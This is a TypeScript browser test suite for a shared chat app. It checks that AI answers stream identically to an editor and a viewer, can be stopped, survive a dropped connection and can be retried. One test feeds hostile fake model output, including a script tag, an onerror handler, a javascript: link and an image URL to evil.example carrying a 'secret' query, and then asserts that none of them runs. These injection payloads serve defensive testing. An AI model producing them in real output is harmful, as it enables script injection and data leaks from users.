import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type FakeLlmServer, startFakeLlmServer } from "../support/fakeLlmServer";
import { type E2EApp, openChat, shot, startE2E, type UserPage, userPage, WAIT_MS } from "./harness";

/** A Markdown answer with a table and a code block, cut into small stream tokens. */
const ANSWER = [
  "Here is the plan, by team:\n\n",
  "| Team | Owner | Due |\n|---|---|---|\n",
  "| Web | Ada | Fri |\n| API | Lin | Thu |\n\n",
  "1. Ship the **beta**\n2. Collect feedback\n\n",
  "```python\ndef ready(items):\n    return all(i.done for i in items)\n```\n",
].join("");
const tokensOf = (text: string, size = 6) =>
  Array.from({ length: Math.ceil(text.length / size) }, (_, i) =>
    text.slice(i * size, (i + 1) * size),
  );

/**
 * The AI in a real browser: A (editor) asks, A and B (viewer) watch the same answer
 * stream in place and end identical to the database; B cannot stop or send; A stops
 * a generation and both see `stopped`; AI output with script/links renders inert.
 * The model is a loopback server speaking Groq's wire protocol to the real SDK.
 */
describe("AI answers in the browser", { timeout: 90_000 }, () => {
  let app: E2EApp;
  let fake: FakeLlmServer;
  let a: UserPage;
  let b: UserPage;
  let sessionId: string;

  beforeAll(async () => {
    fake = await startFakeLlmServer({ tokens: tokensOf(ANSWER), tokenIntervalMs: 30 });
    app = await startE2E({
      GROQ_API_KEY: "gsk_test",
      GROQ_BASE_URL: fake.groqBaseUrl,
      GROQ_MODEL: "llama-test",
      AI_PROVIDER_ORDER: "groq",
    });
    a = await userPage(app, "ada");
    b = await userPage(app, "bea");
    sessionId = (await app.api.post("/chat/sessions", { title: "Planning" }, a.token)).body.id;
    const added = await app.api.post(
      `/chat/${sessionId}/members`,
      { username: "bea", role: "viewer" },
      a.token,
    );
    expect(added.status).toBe(201);
    await openChat(a.page, sessionId);
    await openChat(b.page, sessionId);
  });
  afterAll(async () => {
    await app?.close();
    await fake?.close();
  });

  /** Resolves with the assistant message's id once it shows `status` on the page. */
  const assistantWith = async (p: UserPage, status: string, nth: number) => {
    const handle = await p.page
      .waitForFunction(
        ([st, n]) => {
          const els = document.querySelectorAll("[data-testid=message][data-role=assistant]");
          const el = els[n as number];
          return el && el.getAttribute("data-status") === st
            ? el.getAttribute("data-message-id")
            : null;
        },
        [status, nth] as const,
        { timeout: WAIT_MS },
      )
      .catch(async (err: Error) => {
        // Say what the page showed instead, so a failure here can be diagnosed.
        const seen = await p.page.$$eval("[data-testid=message]", (els) =>
          els.map((e) => `${e.getAttribute("data-role")}:${e.getAttribute("data-status")}`),
        );
        throw new Error(
          `${p.user.username}: no assistant #${nth} with status ${status}; saw ${seen.join(", ")}\n${err.message}`,
        );
      });
    return (await handle.jsonValue()) as string;
  };
  const contentOf = (p: UserPage, id: string) =>
    p.page.$eval(`[data-message-id="${id}"] [data-testid=message-content]`, (e) => e.innerHTML);

  it("both watch the same answer stream in place and end with identical text", async () => {
    // B is a viewer: nothing to type into, nothing to send with.
    expect(await b.page.$("[data-testid=composer]")).toBeNull();
    expect(await b.page.$("[data-testid=send]")).toBeNull();

    await a.page.check("[data-testid=ask-ai]");
    await a.page.fill("[data-testid=composer]", "@ai plan the launch");
    await a.page.press("[data-testid=composer]", "Enter");

    // Streaming on both screens, with partial text (the answer grows in place).
    const id = await assistantWith(a, "streaming", 0);
    expect(await assistantWith(b, "streaming", 0)).toBe(id);
    await b.page.waitForFunction(
      (mid) => {
        const el = document.querySelector(`[data-message-id="${mid}"]`);
        const text = el?.querySelector("[data-testid=message-content]")?.textContent ?? "";
        return el?.getAttribute("data-status") === "streaming" && text.includes("Here is the plan");
      },
      id,
      { timeout: WAIT_MS },
    );
    // A (editor) may stop it; B (viewer) may not.
    await a.page.waitForSelector(`[data-message-id="${id}"] [data-testid=stop]`, {
      timeout: WAIT_MS,
    });
    expect(await b.page.$(`[data-message-id="${id}"] [data-testid=stop]`)).toBeNull();

    await assistantWith(a, "complete", 0);
    await assistantWith(b, "complete", 0);
    // Highlighting is lazy and per page: compare once both have it.
    for (const p of [a, b]) {
      await p.page.waitForSelector(`[data-message-id="${id}"] pre code.hljs`, { timeout: WAIT_MS });
    }
    const [htmlA, htmlB] = [await contentOf(a, id), await contentOf(b, id)];
    expect(htmlA).toBe(htmlB);
    // Identical to what the database holds, rendered.
    const stored = (await app.api.get(`/chat/${sessionId}`, b.token)).body.messages.find(
      (m: any) => m.id === id,
    );
    expect(stored.content).toBe(ANSWER);
    expect(stored.status).toBe("complete");
    const shape = await b.page.$eval(`[data-message-id="${id}"]`, (el) => ({
      rows: el.querySelectorAll("table tbody tr").length,
      ordered: el.querySelectorAll("ol li").length,
      code: el.querySelector("pre code")?.textContent?.includes("def ready(items):"),
      model: el.querySelector("[data-testid=message-model]")?.textContent,
      stop: el.querySelectorAll("[data-testid=stop]").length,
    }));
    expect(shape).toEqual({ rows: 2, ordered: 2, code: true, model: "groq · llama-test", stop: 0 });
    await a.page.waitForSelector(`[data-message-id="${id}"] pre code.hljs`, { timeout: WAIT_MS });
    await shot(a.page, "chat-ai-answer");
    await b.page.waitForSelector(`[data-message-id="${id}"] pre code.hljs`, { timeout: WAIT_MS });
    await shot(b.page, "chat-ai-answer-viewer");
  });

  it("A stops a generation and both see it stopped with the same text", async () => {
    fake.tokens = tokensOf("word ".repeat(400), 5);
    fake.tokenIntervalMs = 40;
    await a.page.fill("[data-testid=composer]", "@ai write a long essay");
    await a.page.press("[data-testid=composer]", "Enter");
    const id = await assistantWith(a, "streaming", 1);
    await b.page.waitForFunction(
      (mid) =>
        (
          document.querySelector(`[data-message-id="${mid}"] [data-testid=message-content]`)
            ?.textContent ?? ""
        ).includes("word"),
      id,
      { timeout: WAIT_MS },
    );
    await a.page.click(`[data-message-id="${id}"] [data-testid=stop]`);
    expect(await assistantWith(a, "stopped", 1)).toBe(id);
    expect(await assistantWith(b, "stopped", 1)).toBe(id);
    const stored = (await app.api.get(`/chat/${sessionId}`, a.token)).body.messages.find(
      (m: any) => m.id === id,
    );
    expect(stored.status).toBe("stopped");
    // Stopped early: fewer words than asked for, and the same words on both screens.
    const textA = await a.page.$eval(
      `[data-message-id="${id}"] [data-testid=message-content]`,
      (e) => e.textContent,
    );
    const textB = await b.page.$eval(
      `[data-message-id="${id}"] [data-testid=message-content]`,
      (e) => e.textContent,
    );
    expect(textA).toBe(textB);
    expect(textA!.trim()).toBe(stored.content.trim());
    expect(stored.content.split("word").length - 1).toBeLessThan(400);
    expect(await a.page.$(`[data-message-id="${id}"] [data-testid=stop]`)).toBeNull();
  });

  it("a viewer who drops mid-stream catches up and ends identical to the database", async () => {
    fake.tokens = Array.from({ length: 150 }, (_, i) => `t${i + 1} `);
    fake.tokenIntervalMs = 20;
    await a.page.fill("[data-testid=composer]", "@ai count for me");
    await a.page.press("[data-testid=composer]", "Enter");
    const id = await assistantWith(b, "streaming", 2);
    await b.page.waitForFunction(
      (mid) =>
        (
          document.querySelector(`[data-message-id="${mid}"] [data-testid=message-content]`)
            ?.textContent ?? ""
        ).includes("t5 "),
      id,
      { timeout: WAIT_MS },
    );
    await b.context.setOffline(true);
    await b.page.waitForSelector("[data-testid=reconnecting]", { timeout: WAIT_MS });
    // Let the answer move on while B is away, then come back.
    await a.page.waitForFunction(
      (mid) =>
        (
          document.querySelector(`[data-message-id="${mid}"] [data-testid=message-content]`)
            ?.textContent ?? ""
        ).includes("t60 "),
      id,
      { timeout: WAIT_MS },
    );
    await b.context.setOffline(false);
    await assistantWith(b, "complete", 2);
    const stored = (await app.api.get(`/chat/${sessionId}`, b.token)).body.messages.find(
      (m: any) => m.id === id,
    );
    const shown = await b.page.$eval(
      `[data-message-id="${id}"] [data-testid=message-content]`,
      (e) => e.textContent,
    );
    expect(shown!.trim()).toBe(stored.content.trim());
    expect(stored.content.trim().split(" ")).toHaveLength(150);
  });

  it("AI output with script, handlers and javascript: links renders inert for viewers", async () => {
    fake.tokenIntervalMs = 0;
    fake.tokens = [
      "Sure: <script>window.__pwned='ai-script'</script> ",
      "<img src=x onerror=\"window.__pwned='ai-img'\"> ",
      "[docs](javascript:window.__pwned='ai-link') ",
      "![track](https://evil.example/t.png?q=secret)",
    ];
    await a.page.fill("[data-testid=composer]", "@ai be evil");
    await a.page.press("[data-testid=composer]", "Enter");
    const id = await assistantWith(b, "complete", 3);
    for (const el of await b.page.$$(`[data-message-id="${id}"] a`))
      await el.click().catch(() => {});
    const report = await b.page.evaluate((mid) => {
      const root = document.querySelector(
        `[data-message-id="${mid}"] [data-testid=message-content]`,
      )!;
      const all = [...root.querySelectorAll("*")];
      return {
        pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
        scripts: root.querySelectorAll("script").length,
        handlers: all.flatMap((e) =>
          [...e.attributes].filter((x) => /^on/i.test(x.name)).map((x) => x.name),
        ),
        jsLinks: all.filter((e) => /^\s*javascript:/i.test(e.getAttribute("href") ?? "")).length,
        remoteImgs: [...root.querySelectorAll("img")].filter(
          (i) => i.src && !i.src.startsWith(location.origin),
        ).length,
      };
    }, id);
    expect(report).toEqual({ pwned: null, scripts: 0, handlers: [], jsLinks: 0, remoteImgs: 0 });
    expect(a.errors).toEqual([]);
    expect(b.errors).toEqual([]);
  });

  it("a failed answer says why and can be asked again", async () => {
    fake.tokens = ["Second ", "time ", "lucky."];
    // Cut mid-answer: past the first token there is no falling back to another provider.
    fake.faults = [{ kind: "cut", afterTokens: 2 }];
    await a.page.fill("[data-testid=composer]", "@ai try this");
    await a.page.press("[data-testid=composer]", "Enter");
    const failed = await assistantWith(a, "error", 4);
    await b.page.waitForSelector(`[data-message-id="${failed}"][data-status=error] [role=alert]`, {
      timeout: WAIT_MS,
    });
    expect(await b.page.$(`[data-message-id="${failed}"] [data-testid=retry]`)).toBeNull();
    await a.page.click(`[data-message-id="${failed}"] [data-testid=retry]`);
    const retried = await assistantWith(b, "complete", 5);
    expect(
      await b.page.$eval(`[data-message-id="${retried}"] [data-testid=message-content]`, (e) =>
        e.textContent?.trim(),
      ),
    ).toBe("Second time lucky.");
  });
});
